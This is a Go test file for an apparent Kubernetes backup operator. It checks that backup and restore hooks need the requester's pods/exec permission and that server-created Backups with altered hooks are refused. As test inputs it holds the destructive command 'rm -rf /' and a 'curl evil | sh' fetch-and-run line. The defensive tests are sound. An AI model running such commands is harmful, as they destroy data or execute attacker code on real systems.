package backup_test

import (
	"context"
	"fmt"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/apiserver/pkg/authentication/user"
	"k8s.io/apiserver/pkg/authorization/authorizer"
	genericapirequest "k8s.io/apiserver/pkg/endpoints/request"
	"k8s.io/apiserver/pkg/registry/generic"
	"k8s.io/apiserver/pkg/registry/rest"
	"k8s.io/apiserver/pkg/storage"
	"k8s.io/apiserver/pkg/storage/storagebackend"
	"k8s.io/apiserver/pkg/storage/storagebackend/factory"
	corelisters "k8s.io/client-go/listers/core/v1"
	"k8s.io/client-go/tools/cache"

	"example.com/backup-operator/pkg/apis/backup"
	"example.com/backup-operator/pkg/apis/backup/install"
	"example.com/backup-operator/pkg/apis/backup/v1alpha1"
	backupstore "example.com/backup-operator/pkg/registry/backup/backup"
	"example.com/backup-operator/pkg/registry/backup/backuppolicy"
	"example.com/backup-operator/pkg/registry/backup/restorejob"
	"example.com/backup-operator/pkg/safety"
)

// memStorage is the storage under a REST store: objects by key, so a test
// sees what was stored and what was not.
type memStorage struct {
	storage.Interface // what a test does not use panics
	mu                sync.Mutex
	objects           map[string]runtime.Object
	rv                uint64
}

func (s *memStorage) Versioner() storage.Versioner { return storage.APIObjectVersioner{} }

func copyInto(out, obj runtime.Object) {
	reflect.ValueOf(out).Elem().Set(reflect.ValueOf(obj.DeepCopyObject()).Elem())
}

func (s *memStorage) Create(_ context.Context, key string, obj, out runtime.Object, _ uint64) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.objects[key]; ok {
		return storage.NewKeyExistsError(key, 0)
	}
	s.rv++
	obj = obj.DeepCopyObject()
	if err := s.Versioner().UpdateObject(obj, s.rv); err != nil {
		return err
	}
	s.objects[key] = obj
	copyInto(out, obj)
	return nil
}

func (s *memStorage) Get(_ context.Context, key string, _ storage.GetOptions, out runtime.Object) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	obj, ok := s.objects[key]
	if !ok {
		return storage.NewKeyNotFoundError(key, 0)
	}
	copyInto(out, obj)
	return nil
}

// GuaranteedUpdate hands tryUpdate a copy of the stored object or, for a
// missing one that may be created (ignoreNotFound: server-side apply), an
// empty one, as the etcd3 store does.
func (s *memStorage) GuaranteedUpdate(ctx context.Context, key string, destination runtime.Object, ignoreNotFound bool, _ *storage.Preconditions,
	tryUpdate storage.UpdateFunc, _ runtime.Object) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	existing, ok := s.objects[key]
	switch {
	case !ok && ignoreNotFound:
		existing = reflect.New(reflect.TypeOf(destination).Elem()).Interface().(runtime.Object)
	case !ok:
		return storage.NewKeyNotFoundError(key, 0)
	}
	updated, _, err := tryUpdate(existing.DeepCopyObject(), storage.ResponseMeta{ResourceVersion: s.rv})
	if err != nil {
		return err
	}
	s.rv++
	if err := s.Versioner().UpdateObject(updated, s.rv); err != nil {
		return err
	}
	s.objects[key] = updated.DeepCopyObject()
	copyInto(destination, updated)
	return nil
}

func (s *memStorage) get(t *testing.T, kind, name string) runtime.Object {
	t.Helper()
	s.mu.Lock()
	defer s.mu.Unlock()
	for k, o := range s.objects {
		if strings.HasSuffix(k, "/"+kind+"/prod/"+name) {
			return o.DeepCopyObject()
		}
	}
	return nil
}

func (s *memStorage) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.objects)
}

// memOptions gives every store a memStorage.
type memOptions struct{ s *memStorage }

func (o memOptions) GetRESTOptions(gr schema.GroupResource, _ runtime.Object) (generic.RESTOptions, error) {
	return generic.RESTOptions{StorageConfig: &storagebackend.ConfigForResource{GroupResource: gr}, ResourcePrefix: gr.Resource,
		Decorator: func(*storagebackend.ConfigForResource, string, func(runtime.Object) (string, error), func() runtime.Object, func() runtime.Object,
			storage.AttrFunc, storage.IndexerFuncs, *cache.Indexers) (storage.Interface, factory.DestroyFunc, error) {
			return o.s, func() {}, nil
		}}, nil
}

// execAuthorizer allows "create pods/exec" to the users and namespaces it
// lists ("user namespace"), and everything else to everybody; it records
// every pods/exec question with its attributes.
type execAuthorizer struct {
	mu      sync.Mutex
	allowed map[string]bool
	asked   []authorizer.Attributes
}

func (a *execAuthorizer) Authorize(_ context.Context, attrs authorizer.Attributes) (authorizer.Decision, string, error) {
	if attrs.GetResource() != "pods" || attrs.GetSubresource() != "exec" {
		return authorizer.DecisionAllow, "", nil
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	a.asked = append(a.asked, attrs)
	if attrs.GetVerb() == "create" && a.allowed[attrs.GetUser().GetName()+" "+attrs.GetNamespace()] {
		return authorizer.DecisionAllow, "", nil
	}
	return authorizer.DecisionDeny, "no RBAC rule allows it", nil
}

// questions renders the pods/exec questions asked since the last call.
func (a *execAuthorizer) questions() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	var out []string
	for _, q := range a.asked {
		out = append(out, q.GetUser().GetName()+" "+q.GetVerb()+" pods/exec in "+q.GetNamespace())
	}
	a.asked = nil
	return out
}

// policyGetter reads the policy from the policies' store.
type policyGetter struct{ r *backuppolicy.REST }

func (g policyGetter) Get(ctx context.Context, name string, opts *metav1.GetOptions) (runtime.Object, error) {
	return g.r.Get(ctx, name, opts)
}

// hookStores are the three stores on one memStorage, with a checker whose
// caches hold a Completed Backup prod/done and a Bound claim prod/data (so
// a restore into it passes the restore checks).
type hookStores struct {
	mem      *memStorage
	az       *execAuthorizer
	policies *backuppolicy.REST
	backups  *backupstore.REST
	restores *restorejob.REST
}

func newHookStores(t *testing.T) *hookStores {
	t.Helper()
	scheme := runtime.NewScheme()
	install.Install(scheme)
	s := &hookStores{mem: &memStorage{objects: map[string]runtime.Object{}},
		az: &execAuthorizer{allowed: map[string]bool{"alice prod": true}}}
	backups := cache.NewIndexer(cache.MetaNamespaceKeyFunc, safety.BackupIndexers())
	restores := cache.NewIndexer(cache.MetaNamespaceKeyFunc, safety.RestoreIndexers())
	pods := cache.NewIndexer(cache.MetaNamespaceKeyFunc, cache.Indexers{safety.PodsByPVCIndex: safety.PodsByPVC})
	pvcs := cache.NewIndexer(cache.MetaNamespaceKeyFunc, cache.Indexers{})
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(backups.Add(&v1alpha1.Backup{ObjectMeta: metav1.ObjectMeta{Namespace: "prod", Name: "done"},
		Spec:   v1alpha1.BackupSpec{Target: v1alpha1.VolumeTarget{Namespace: "prod", PVCName: "data"}, Storage: v1alpha1.RepositoryStorage{PVCName: "backup-repo"}},
		Status: v1alpha1.BackupStatus{Phase: v1alpha1.BackupPhaseCompleted, SnapshotID: strings.Repeat("a", 64), Stats: &v1alpha1.BackupStats{Bytes: 1000}}}))
	must(pvcs.Add(&corev1.PersistentVolumeClaim{ObjectMeta: metav1.ObjectMeta{Namespace: "prod", Name: "data"},
		Status: corev1.PersistentVolumeClaimStatus{Phase: corev1.ClaimBound, Capacity: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("1Gi")}}}))
	checker := &safety.Checker{Authorizer: authorizer.AuthorizerFunc(s.az.Authorize), PVCs: corelisters.NewPersistentVolumeClaimLister(pvcs),
		Pods: pods, Backups: backups, Restores: restores}
	var err error
	opts := memOptions{s.mem}
	s.policies, _, err = backuppolicy.NewREST(scheme, opts, checker, "backup-repo")
	must(err)
	s.backups, _, err = backupstore.NewREST(scheme, opts, policyGetter{s.policies}, checker, "backup-repo")
	must(err)
	s.restores, _, err = restorejob.NewREST(scheme, opts, checker)
	must(err)
	return s
}

// as is a request context in namespace prod by u.
func as(u user.Info) context.Context {
	return genericapirequest.WithUser(genericapirequest.WithNamespace(context.Background(), "prod"), u)
}

var (
	alice  = &user.DefaultInfo{Name: "alice", Groups: []string{"db-admins", user.AllAuthenticated}, Extra: map[string][]string{"scopes": {"all"}}}
	bob    = &user.DefaultInfo{Name: "bob", Groups: []string{user.AllAuthenticated}}
	server = &user.DefaultInfo{Name: user.APIServerUser, Groups: []string{user.AllAuthenticated, user.SystemPrivilegedGroup}}
)

func hookAction(name string) backup.HookAction {
	t := intstr.FromString("60s")
	return backup.HookAction{Name: name, Exec: &backup.ExecHook{Command: []string{"sh", "-c", "pg_dump -Fc -f /var/lib/db/dump.pgc app"}},
		Timeout: &t, OnError: backup.HookFail, WhenNoPods: backup.HookNoPodsSkip}
}

func hooks() *backup.BackupHooks {
	return &backup.BackupHooks{Pre: []backup.HookAction{hookAction("dump")}}
}

func hookedPolicy() *backup.BackupPolicy {
	keep := int32(7)
	return &backup.BackupPolicy{ObjectMeta: metav1.ObjectMeta{Namespace: "prod", Name: "db"},
		Spec: backup.BackupPolicySpec{Schedule: "@daily", Target: backup.VolumeTarget{Namespace: "prod", PVCName: "data"},
			Storage: backup.RepositoryStorage{PVCName: "backup-repo"}, Retention: backup.RetentionPolicy{KeepLast: &keep},
			ConcurrencyPolicy: backup.ForbidConcurrent, Hooks: hooks()}}
}

func hookedBackup(name string) *backup.Backup {
	return &backup.Backup{ObjectMeta: metav1.ObjectMeta{Namespace: "prod", Name: name},
		Spec: backup.BackupSpec{PolicyName: "db", Target: backup.VolumeTarget{Namespace: "prod", PVCName: "data"},
			Storage: backup.RepositoryStorage{PVCName: "backup-repo"}, Hooks: hooks()}}
}

func hookedRestore(name string) *backup.RestoreJob {
	return &backup.RestoreJob{ObjectMeta: metav1.ObjectMeta{Namespace: "prod", Name: name},
		Spec: backup.RestoreJobSpec{BackupNamespace: "prod", BackupName: "done", Target: backup.RestoreTarget{Namespace: "prod", PVCName: "data"},
			Mode: backup.RestoreModeMerge, Hooks: &backup.RestoreHooks{Post: []backup.HookAction{hookAction("load")}}}}
}

// wantExecRefused checks a 403 that names pods/exec, the namespace and the
// requester.
func wantExecRefused(t *testing.T, err error, who, namespace string) {
	t.Helper()
	if !apierrors.IsForbidden(err) {
		t.Fatalf("want 403, got %v", err)
	}
	for _, want := range []string{"spec.hooks", "you (" + who + ") may not create pods/exec", fmt.Sprintf("in namespace %q", namespace)} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("message lacks %q: %v", want, err)
		}
	}
}

// Creating a BackupPolicy, a Backup or a RestoreJob with hooks needs the
// requester's permission to create pods/exec in the target's namespace:
// without it the request is refused (403) and nothing is stored; with it
// the object is stored. Objects without hooks do not ask.
func TestHooksNeedPodsExec(t *testing.T) {
	for _, tc := range []struct {
		name      string
		create    func(s *hookStores, ctx context.Context) (runtime.Object, error)
		u         *user.DefaultInfo
		refusedIn string   // "" means stored
		questions []string // the pods/exec questions asked
	}{
		{"policy by alice", func(s *hookStores, ctx context.Context) (runtime.Object, error) {
			return s.policies.Create(ctx, hookedPolicy(), nil, &metav1.CreateOptions{})
		}, alice, "", []string{"alice create pods/exec in prod"}},
		{"policy by bob", func(s *hookStores, ctx context.Context) (runtime.Object, error) {
			return s.policies.Create(ctx, hookedPolicy(), nil, &metav1.CreateOptions{})
		}, bob, "prod", []string{"bob create pods/exec in prod"}},
		{"policy without hooks by bob", func(s *hookStores, ctx context.Context) (runtime.Object, error) {
			p := hookedPolicy()
			p.Spec.Hooks = nil
			return s.policies.Create(ctx, p, nil, &metav1.CreateOptions{})
		}, bob, "", nil},
		{"policy with empty hooks by bob", func(s *hookStores, ctx context.Context) (runtime.Object, error) {
			p := hookedPolicy()
			p.Spec.Hooks = &backup.BackupHooks{}
			return s.policies.Create(ctx, p, nil, &metav1.CreateOptions{})
		}, bob, "", nil},
		{"policy of a claim in another namespace asks there", func(s *hookStores, ctx context.Context) (runtime.Object, error) {
			p := hookedPolicy()
			p.Spec.Target.Namespace = "staging"
			return s.policies.Create(ctx, p, nil, &metav1.CreateOptions{})
		}, alice, "staging", []string{"alice create pods/exec in staging"}},
		{"policy with only post hooks by bob", func(s *hookStores, ctx context.Context) (runtime.Object, error) {
			p := hookedPolicy()
			p.Spec.Hooks = &backup.BackupHooks{Post: []backup.HookAction{hookAction("resume")}}
			return s.policies.Create(ctx, p, nil, &metav1.CreateOptions{})
		}, bob, "prod", []string{"bob create pods/exec in prod"}},
		{"backup by alice", func(s *hookStores, ctx context.Context) (runtime.Object, error) {
			return s.backups.Create(ctx, hookedBackup("manual"), nil, &metav1.CreateOptions{})
		}, alice, "", []string{"alice create pods/exec in prod"}},
		{"backup by bob", func(s *hookStores, ctx context.Context) (runtime.Object, error) {
			return s.backups.Create(ctx, hookedBackup("manual"), nil, &metav1.CreateOptions{})
		}, bob, "prod", []string{"bob create pods/exec in prod"}},
		{"backup without hooks by bob", func(s *hookStores, ctx context.Context) (runtime.Object, error) {
			b := hookedBackup("manual")
			b.Spec.Hooks = nil
			return s.backups.Create(ctx, b, nil, &metav1.CreateOptions{})
		}, bob, "", nil},
		{"restore by alice", func(s *hookStores, ctx context.Context) (runtime.Object, error) {
			return s.restores.Create(ctx, hookedRestore("r"), nil, &metav1.CreateOptions{})
		}, alice, "", []string{"alice create pods/exec in prod"}},
		{"restore by bob", func(s *hookStores, ctx context.Context) (runtime.Object, error) {
			return s.restores.Create(ctx, hookedRestore("r"), nil, &metav1.CreateOptions{})
		}, bob, "prod", []string{"bob create pods/exec in prod"}},
		{"restore without post hooks by bob", func(s *hookStores, ctx context.Context) (runtime.Object, error) {
			r := hookedRestore("r")
			r.Spec.Hooks = &backup.RestoreHooks{}
			return s.restores.Create(ctx, r, nil, &metav1.CreateOptions{})
		}, bob, "", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := newHookStores(t)
			obj, err := tc.create(s, as(tc.u))
			if q := s.az.questions(); !reflect.DeepEqual(q, tc.questions) {
				t.Errorf("pods/exec questions %q, want %q", q, tc.questions)
			}
			if tc.refusedIn != "" {
				wantExecRefused(t, err, tc.u.Name, tc.refusedIn)
				if n := s.mem.count(); n != 0 {
					t.Errorf("%d objects stored after a refusal", n)
				}
				return
			}
			if err != nil {
				t.Fatalf("refused: %v", err)
			}
			if n := s.mem.count(); n != 1 || obj == nil {
				t.Errorf("%d objects stored, want the one created", n)
			}
		})
	}
}

// The pods/exec question is the requester's own, as kubectl exec would
// ask it: verb create on the subresource exec of pods (core group) in the
// target's namespace, for any pod, with the requester's user, groups and
// extra.
func TestExecQuestionAttributes(t *testing.T) {
	s := newHookStores(t)
	if _, err := s.backups.Create(as(alice), hookedBackup("manual"), nil, &metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if len(s.az.asked) != 1 {
		t.Fatalf("asked %d pods/exec questions, want one", len(s.az.asked))
	}
	q := s.az.asked[0]
	if q.GetVerb() != "create" || q.GetAPIGroup() != "" || q.GetResource() != "pods" || q.GetSubresource() != "exec" ||
		q.GetNamespace() != "prod" || q.GetName() != "" || !q.IsResourceRequest() {
		t.Errorf("question %+v, want create pods/exec in prod", q)
	}
	if u := q.GetUser(); u.GetName() != "alice" || !reflect.DeepEqual(u.GetGroups(), alice.Groups) || !reflect.DeepEqual(u.GetExtra(), alice.Extra) {
		t.Errorf("asked for %+v, want alice as she is", u)
	}
}

// An on-demand Backup that names only its policy gets the policy's hooks,
// and its requester needs pods/exec for them.
func TestOnDemandBackupCarriesThePolicysHooks(t *testing.T) {
	s := newHookStores(t)
	if _, err := s.policies.Create(as(alice), hookedPolicy(), nil, &metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	s.az.questions()
	onDemand := func() *backup.Backup {
		return &backup.Backup{ObjectMeta: metav1.ObjectMeta{Namespace: "prod", Name: "before-upgrade"}, Spec: backup.BackupSpec{PolicyName: "db"}}
	}
	_, err := s.backups.Create(as(bob), onDemand(), nil, &metav1.CreateOptions{})
	wantExecRefused(t, err, "bob", "prod")
	if s.mem.get(t, "backups", "before-upgrade") != nil {
		t.Error("bob's Backup was stored")
	}
	obj, err := s.backups.Create(as(alice), onDemand(), nil, &metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if b := obj.(*backup.Backup); !reflect.DeepEqual(b.Spec.Hooks, hooks()) {
		t.Errorf("hooks %+v, want the policy's", b.Spec.Hooks)
	}
}

// A policy update asks about pods/exec when it changes the hooks or the
// target (the hooks then run on the updater's authority), and not when it
// changes only the schedule or removes the hooks; a refused update changes
// nothing.
func TestPolicyUpdateAndPodsExec(t *testing.T) {
	for _, tc := range []struct {
		name    string
		mutate  func(p *backup.BackupPolicy)
		asks    bool
		refused bool // for bob
	}{
		{"schedule", func(p *backup.BackupPolicy) { p.Spec.Schedule = "@hourly" }, false, false},
		{"suspend", func(p *backup.BackupPolicy) { p.Spec.Suspend = true }, false, false},
		{"a hook's command", func(p *backup.BackupPolicy) { p.Spec.Hooks.Pre[0].Exec.Command = []string{"rm", "-rf", "/"} }, true, true},
		{"a hook's timeout", func(p *backup.BackupPolicy) {
			t := intstr.FromString("5m")
			p.Spec.Hooks.Pre[0].Timeout = &t
		}, true, true},
		{"a new post hook", func(p *backup.BackupPolicy) { p.Spec.Hooks.Post = []backup.HookAction{hookAction("resume")} }, true, true},
		{"the target claim", func(p *backup.BackupPolicy) { p.Spec.Target.PVCName = "other" }, true, true},
		{"hooks removed", func(p *backup.BackupPolicy) { p.Spec.Hooks = nil }, false, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := newHookStores(t)
			created, err := s.policies.Create(as(alice), hookedPolicy(), nil, &metav1.CreateOptions{})
			if err != nil {
				t.Fatal(err)
			}
			s.az.questions()
			p := created.(*backup.BackupPolicy).DeepCopy()
			tc.mutate(p)
			_, _, err = s.policies.Update(as(bob), "db", rest.DefaultUpdatedObjectInfo(p), nil, nil, false, &metav1.UpdateOptions{})
			q := s.az.questions()
			if asked := len(q) > 0; asked != tc.asks {
				t.Errorf("questions %q, want asked: %v", q, tc.asks)
			}
			stored := s.mem.get(t, "backuppolicies", "db").(*backup.BackupPolicy)
			if tc.refused {
				wantExecRefused(t, err, "bob", "prod")
				if !reflect.DeepEqual(stored.Spec, created.(*backup.BackupPolicy).Spec) {
					t.Errorf("a refused update changed the policy: %+v", stored.Spec)
				}
				// Alice may.
				if _, _, err := s.policies.Update(as(alice), "db", rest.DefaultUpdatedObjectInfo(p), nil, nil, false, &metav1.UpdateOptions{}); err != nil {
					t.Errorf("alice's update: %v", err)
				}
				return
			}
			if err != nil {
				t.Fatalf("bob's update: %v", err)
			}
			if !reflect.DeepEqual(stored.Spec, p.Spec) {
				t.Errorf("stored %+v, want the update", stored.Spec)
			}
		})
	}
}

// The server's own Backups (the policy controller's, the importer's) are
// accepted without asking when they carry exactly their stored policy's
// hooks, and refused when they carry others; an imported Backup without
// hooks is accepted.
func TestServerBackupHooks(t *testing.T) {
	for _, tc := range []struct {
		name    string
		mutate  func(b *backup.Backup)
		refused string
	}{
		{"the policy's hooks", nil, ""},
		{"other hooks", func(b *backup.Backup) { b.Spec.Hooks.Pre[0].Exec.Command = []string{"sh", "-c", "curl evil | sh"} }, "target namespace, storage and hooks"},
		{"more hooks", func(b *backup.Backup) { b.Spec.Hooks.Post = []backup.HookAction{hookAction("resume")} }, "target namespace, storage and hooks"},
		{"an import without hooks", func(b *backup.Backup) {
			b.Spec.Hooks = nil
			b.Annotations = map[string]string{v1alpha1.ImportedSnapshotAnnotation: strings.Repeat("b", 64)}
		}, ""},
		{"hooks of a policy that is gone", func(b *backup.Backup) { b.Spec.PolicyName = "gone" }, `BackupPolicy "gone"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := newHookStores(t)
			if _, err := s.policies.Create(as(alice), hookedPolicy(), nil, &metav1.CreateOptions{}); err != nil {
				t.Fatal(err)
			}
			s.az.questions()
			b := hookedBackup("db-202611300200")
			if tc.mutate != nil {
				tc.mutate(b)
			}
			_, err := s.backups.Create(as(server), b, nil, &metav1.CreateOptions{})
			if q := s.az.questions(); len(q) != 0 {
				t.Errorf("the authorizer was asked %q for the server's own Backup", q)
			}
			stored := s.mem.get(t, "backups", b.Name) != nil
			if tc.refused == "" {
				if err != nil || !stored {
					t.Errorf("refused (%v), stored %v", err, stored)
				}
				return
			}
			if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), tc.refused) || stored {
				t.Errorf("got %v (stored %v), want 403 naming %q", err, stored, tc.refused)
			}
		})
	}
}

// A server-side apply that creates the object (kubectl apply --server-side
// of a new one: an update that may create) is checked as a create is.
func TestServerSideApplyCreateNeedsPodsExec(t *testing.T) {
	for _, tc := range []struct {
		name, resource, object string
		apply                  func(s *hookStores, ctx context.Context) (runtime.Object, bool, error)
	}{
		{"policy", "backuppolicies", "db", func(s *hookStores, ctx context.Context) (runtime.Object, bool, error) {
			return s.policies.Update(ctx, "db", rest.DefaultUpdatedObjectInfo(hookedPolicy()), nil, nil, true, &metav1.UpdateOptions{})
		}},
		{"backup", "backups", "manual", func(s *hookStores, ctx context.Context) (runtime.Object, bool, error) {
			return s.backups.Update(ctx, "manual", rest.DefaultUpdatedObjectInfo(hookedBackup("manual")), nil, nil, true, &metav1.UpdateOptions{})
		}},
		{"restore", "restorejobs", "r", func(s *hookStores, ctx context.Context) (runtime.Object, bool, error) {
			return s.restores.Update(ctx, "r", rest.DefaultUpdatedObjectInfo(hookedRestore("r")), nil, nil, true, &metav1.UpdateOptions{})
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := newHookStores(t)
			_, _, err := tc.apply(s, as(bob))
			if q := s.az.questions(); len(q) != 1 {
				t.Errorf("pods/exec questions %q, want bob's", q)
			}
			if !apierrors.IsForbidden(err) || s.mem.get(t, tc.resource, tc.object) != nil {
				t.Fatalf("bob's apply: %v, stored %v; want 403 and nothing stored", err, s.mem.get(t, tc.resource, tc.object) != nil)
			}
			wantExecRefused(t, err, "bob", "prod")
			if _, created, err := tc.apply(s, as(alice)); err != nil || !created {
				t.Errorf("alice's apply: created %v, %v", created, err)
			}
		})
	}
}

// When the authorizer cannot answer, the request is refused with 503 (retry)
// rather than let through; a request without a user is refused.
func TestCheckExecAllowedFailsSafe(t *testing.T) {
	failing := authorizer.AuthorizerFunc(func(_ context.Context, a authorizer.Attributes) (authorizer.Decision, string, error) {
		return authorizer.DecisionNoOpinion, "", fmt.Errorf("webhook authorizer timed out after %s", 10*time.Second)
	})
	c := &safety.Checker{Authorizer: failing}
	if ref := c.CheckExecAllowed(context.Background(), alice, "prod", nil); ref == nil || ref.Code != 503 || !strings.Contains(ref.Message, "pods/exec in namespace prod") {
		t.Errorf("refusal %+v, want 503 naming pods/exec", ref)
	}
	allowAll := authorizer.AuthorizerFunc(func(context.Context, authorizer.Attributes) (authorizer.Decision, string, error) {
		return authorizer.DecisionAllow, "", nil
	})
	c = &safety.Checker{Authorizer: allowAll}
	if ref := c.CheckExecAllowed(context.Background(), nil, "prod", nil); ref == nil || ref.Code != 403 || !strings.Contains(ref.Message, "an unauthenticated requester") {
		t.Errorf("refusal %+v, want 403 for a request without a user", ref)
	}
}

// A Backup that names only its policy takes the policy's hooks; refused
// for pods/exec, the answer names the policy and says what to do instead
// (the policy's trigger annotation, or spec.hooks: {}). With spec.hooks: {}
// the Backup runs no hooks and is accepted without pods/exec. A Backup's
// own hooks are refused without a word about the policy.
func TestPolicyHooksRefusalSaysWhatToDo(t *testing.T) {
	s := newHookStores(t)
	if _, err := s.policies.Create(as(alice), hookedPolicy(), nil, &metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	s.az.questions()
	onDemand := func(name string, h *backup.BackupHooks) *backup.Backup {
		return &backup.Backup{ObjectMeta: metav1.ObjectMeta{Namespace: "prod", Name: name}, Spec: backup.BackupSpec{PolicyName: "db", Hooks: h}}
	}

	_, err := s.backups.Create(as(bob), onDemand("before-upgrade", nil), nil, &metav1.CreateOptions{})
	wantExecRefused(t, err, "bob", "prod")
	for _, want := range []string{`takes from BackupPolicy "db"`, "Annotate the policy with " + v1alpha1.TriggerAnnotation + "=", "set spec.hooks: {} on this Backup"} {
		if err != nil && !strings.Contains(err.Error(), want) {
			t.Errorf("refusal lacks %q: %v", want, err)
		}
	}
	if s.mem.get(t, "backups", "before-upgrade") != nil {
		t.Error("the refused Backup was stored")
	}
	s.az.questions()

	obj, err := s.backups.Create(as(bob), onDemand("no-hooks", &backup.BackupHooks{}), nil, &metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("spec.hooks: {} refused: %v", err)
	}
	if q := s.az.questions(); len(q) != 0 {
		t.Errorf("pods/exec questions %q for a Backup without hooks", q)
	}
	if h := obj.(*backup.Backup).Spec.Hooks; h == nil || len(h.Pre) != 0 || len(h.Post) != 0 {
		t.Errorf("hooks %+v, want none (not the policy's)", h)
	}
	if stored, ok := s.mem.get(t, "backups", "no-hooks").(*backup.Backup); !ok || stored.Spec.Hooks == nil || len(stored.Spec.Hooks.Pre)+len(stored.Spec.Hooks.Post) != 0 {
		t.Errorf("stored %+v, want the Backup without hooks", stored)
	}

	_, err = s.backups.Create(as(bob), hookedBackup("own"), nil, &metav1.CreateOptions{})
	wantExecRefused(t, err, "bob", "prod")
	if err != nil && strings.Contains(err.Error(), "BackupPolicy") {
		t.Errorf("the refusal of a Backup's own hooks names the policy: %v", err)
	}
}
